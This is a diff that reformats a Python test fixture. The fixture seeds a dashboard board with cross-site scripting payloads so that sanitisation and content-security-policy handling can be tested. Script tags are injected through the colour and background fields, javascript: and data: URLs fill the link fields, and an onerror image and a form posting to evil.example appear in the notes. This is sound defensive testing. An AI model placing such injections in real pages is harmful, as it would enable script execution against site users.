@@ -36,32 +36,59 @@ document.addEventListener("securitypolicyviolation", (e) => window.__violations.
 
 def hostile_board(owner) -> Board:
     board = Board.objects.create(
-        name="hostile", title=payloads("title"), description=payloads("description"),
-        owner=owner, is_public=True,
+        name="hostile",
+        title=payloads("title"),
+        description=payloads("description"),
+        owner=owner,
+        is_public=True,
         accent_color='#fff}</style><script>window.__xss="accent"</script>',
         background_url='x")}</style><script>window.__xss="background"</script>',
-    )  # fmt: skip
+    )
     category = Section.objects.create(board=board, kind="category", title=payloads("section"))
     text = payloads("option")
     options = {
-        "app": {"name": text, "url": JS, "icon": JS, "description": text, "new_tab": True,
-                "ping": True, "ping_url": JS},
-        "bookmarks": {"title": text, "new_tab": False, "links": [
-            {"name": text, "url": JS}, {"name": "data", "url": DATA_URL}]},
+        "app": {
+            "name": text,
+            "url": JS,
+            "icon": JS,
+            "description": text,
+            "new_tab": True,
+            "ping": True,
+            "ping_url": JS,
+        },
+        "bookmarks": {
+            "title": text,
+            "new_tab": False,
+            "links": [{"name": text, "url": JS}, {"name": "data", "url": DATA_URL}],
+        },
         "clock": {"title": text, "time_zone": text, "hour12": False, "show_date": True},
-        "notes": {"title": text, "text": (
-            f"{payloads('note')}\n\n[click]({JS})\n\n<a href=\"{JS}\">raw</a>\n\n"
-            f"<iframe src=\"{JS}\"></iframe>\n\n![img](x \"t\" onerror=alert(1))\n\n"
-            "<form action=\"https://evil.example\"><button>go</button></form>"
-            "<style>body{display:none}</style>")},
+        "notes": {
+            "title": text,
+            "text": (
+                f'{payloads("note")}\n\n[click]({JS})\n\n<a href="{JS}">raw</a>\n\n'
+                f'<iframe src="{JS}"></iframe>\n\n![img](x "t" onerror=alert(1))\n\n'
+                '<form action="https://evil.example"><button>go</button></form>'
+                "<style>body{display:none}</style>"
+            ),
+        },
         "iframe": {"title": text, "url": JS, "height": 100, "allow_scripts": True},
         "search": {"title": text, "engine": JS + "?q=%s", "placeholder": text, "new_tab": True},
-    }  # fmt: skip
+    }
     for n, (kind, opts) in enumerate(options.items()):
         Item.objects.create(
-            board=board, section=category, kind=kind, options=opts,
-            x=n % 4 * 3, y=n // 4 * 2, w=3, h=2, nx=0, ny=n * 2, nw=4, nh=2,
-        )  # fmt: skip
+            board=board,
+            section=category,
+            kind=kind,
+            options=opts,
+            x=n % 4 * 3,
+            y=n // 4 * 2,
+            w=3,
+            h=2,
+            nx=0,
+            ny=n * 2,
+            nw=4,
+            nh=2,
+        )
     return board
 
 
